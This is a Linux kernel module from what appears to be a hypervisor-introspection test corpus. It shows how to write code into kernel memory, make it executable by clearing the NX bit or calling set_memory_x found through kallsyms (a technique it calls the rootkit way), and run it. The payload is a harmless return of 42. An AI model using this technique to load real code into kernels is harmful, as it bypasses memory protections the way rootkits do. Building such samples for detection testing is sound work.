// SPDX-License-Identifier: GPL-2.0
/* Attack: "unpack" code into kernel memory and run it.
 *
 * mode=0 (default), exported symbols only (6.1 exports neither set_memory_x, module_alloc,
 * vmalloc_exec nor a way to pass PAGE_KERNEL_EXEC to __vmalloc): vmalloc() a page (mapped NX),
 * write x86-64 code into it, find its PTE with lookup_address() (EXPORT_SYMBOL_GPL) and clear
 * _PAGE_NX in place, then call it. No TLB flush is needed: the page was never fetched from, and
 * a stale NX entry would only cause a spurious fault that the kernel resolves by re-walking
 * (spurious_kernel_fault).
 *
 * mode=1, the rootkit way: module_alloc() (module area, NX) and set_memory_x(), both found
 * through kallsyms (attack_common.h), then call it.
 *
 * The page is made NX again and freed on unload. */
#include <linux/module.h>
#include <linux/vmalloc.h>
#include <linux/string.h>
#include <asm/pgtable.h>
#include "attack_common.h"

static int mode;
module_param(mode, int, 0444);

static void *buf;
static pte_t *ptep;
typedef void *(*alloc_fn)(unsigned long size);
typedef int (*set_mem_fn)(unsigned long addr, int numpages);

/* not __init, and not a tail call: the allocation's caller recorded in the vm_struct is inside
 * the module's core text, which stays mapped after init */
static noinline void hvi_unpack_alloc(alloc_fn ma)
{
	buf = ma ? ma(PAGE_SIZE) : vmalloc(PAGE_SIZE);
	barrier();
}

static int __init attack_init(void)
{
	static const u8 code[] = { 0xb8, 0x2a, 0x00, 0x00, 0x00, /* mov $42, %eax */
				   0xc3 };                       /* ret */
	unsigned int level;
	int (*fn)(void);

	if (mode == 1) {
		alloc_fn ma = (alloc_fn)hvi_attack_lookup("module_alloc");
		set_mem_fn smx = (set_mem_fn)hvi_attack_lookup("set_memory_x");

		if (!ma || !smx)
			return -ENOENT;
		hvi_unpack_alloc(ma);
		if (!buf)
			return -ENOMEM;
		memset(buf, 0xcc, PAGE_SIZE);
		memcpy(buf, code, sizeof(code));
		smx((unsigned long)buf, 1);
	} else {
		hvi_unpack_alloc(NULL);
		if (!buf)
			return -ENOMEM;
		memset(buf, 0xcc, PAGE_SIZE);
		memcpy(buf, code, sizeof(code));
		ptep = lookup_address((unsigned long)buf, &level);
		if (!ptep || level != PG_LEVEL_4K) {
			vfree(buf);
			return -EFAULT;
		}
		set_pte(ptep, pte_mkexec(*ptep));
	}
	fn = (int (*)(void))buf;
	pr_info("hvi-attack: unpacked code at %px (mode %d) returned %d\n", buf, mode, fn());
	return 0;
}

static void __exit attack_exit(void)
{
	if (mode == 1) {
		set_mem_fn snx = (set_mem_fn)hvi_attack_lookup("set_memory_nx");

		if (snx)
			snx((unsigned long)buf, 1);
	} else {
		set_pte(ptep, pte_set_flags(*ptep, _PAGE_NX));
	}
	vfree(buf);
	pr_info("hvi-attack: unpacked page freed\n");
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvi test corpus: code written to kernel memory, made executable, run");
